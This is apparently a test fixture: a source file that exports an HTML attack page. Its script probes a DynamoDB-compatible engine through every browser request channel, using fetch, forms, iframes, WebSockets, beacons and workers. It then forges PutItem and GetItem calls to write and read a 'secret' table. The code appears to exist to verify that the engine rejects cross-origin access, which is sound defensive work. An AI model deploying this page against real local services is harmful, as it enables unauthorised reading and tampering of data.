/**
 * A page whose function `attack(base)` tries every way in which a browser connects to a server. It resolves, once all
 * of them have ended, to the text that it read from the table `secret` of a DynamoDB engine at `base`, or to undefined.
 */
export const attackPage = `<!doctype html><title>attack</title><body><script>
const settled = (element, address, done = ['load', 'error']) => new Promise((resolve) => {
  for (const name of done) element.addEventListener(name, resolve);
  setTimeout(resolve, 1500);
  element[element.tagName === 'LINK' ? 'href' : element.tagName === 'OBJECT' ? 'data' : 'src'] = address;
  document.body.append(element);
});
const make = (tag, properties = {}) => Object.assign(document.createElement(tag), properties);
const call = (base, action, input) => fetch(base, {
  method: 'POST',
  headers: {
    'content-type': 'application/x-amz-json-1.0',
    'x-amz-target': 'DynamoDB_20120810.' + action,
    'x-amz-date': '20260101T000000Z',
    authorization: 'AWS4-HMAC-SHA256 Credential=a/20260101/us-east-1/dynamodb/aws4_request, SignedHeaders=host, Signature=a',
  },
  body: JSON.stringify(input),
}).then((answer) => answer.json());

function submit(base) {
  const frame = make('iframe', { name: 'target' + Math.random() });
  const form = make('form', { method: 'POST', action: base, target: frame.name, enctype: 'text/plain' });
  form.append(make('input', { name: '{"TableName":"secret"}' }));
  document.body.append(frame, form);
  return new Promise((resolve) => {
    frame.addEventListener('load', resolve);
    setTimeout(resolve, 1500);
    form.submit();
  });
}

function inWorker(base) {
  const code = 'fetch(' + JSON.stringify(base) + ', { mode: "no-cors" }).finally(() => postMessage(0)).catch(() => {})';
  const worker = new Worker(URL.createObjectURL(new Blob([code])));
  return new Promise((resolve) => worker.addEventListener('message', resolve));
}

function socket(base) {
  try {
    const opened = new WebSocket(base.replace('http', 'ws'));
    return new Promise((resolve) => opened.addEventListener('error', resolve));
  } catch {}
}

function events(base) {
  const source = new EventSource(base + '/events');
  return new Promise((resolve) => source.addEventListener('error', () => resolve(source.close())));
}

async function attack(base) {
  await Promise.allSettled([
    fetch(base),
    fetch(base + '/no-cors', { mode: 'no-cors', method: 'POST', body: '{}' }),
    settled(make('img'), base + '/img'),
    settled(make('script'), base + '/script'),
    settled(make('link', { rel: 'stylesheet' }), base + '/style'),
    settled(make('link', { rel: 'preconnect' }), base),
    settled(make('link', { rel: 'prefetch' }), base + '/prefetch'),
    settled(make('iframe'), base + '/iframe'),
    settled(make('object'), base + '/object'),
    settled(make('audio'), base + '/audio', ['error']),
    submit(base),
    socket(base),
    events(base),
    inWorker(base + '/worker'),
    navigator.sendBeacon(base + '/beacon', '{}'),
  ]);
  await call(base, 'PutItem', { TableName: 'secret', Item: { id: { S: 'a' }, text: { S: 'forged' } } }).catch(() => {});
  const read = await call(base, 'GetItem', { TableName: 'secret', Key: { id: { S: 'a' } } }).catch(() => ({}));
  return read.Item?.text?.S;
}
</script>`;
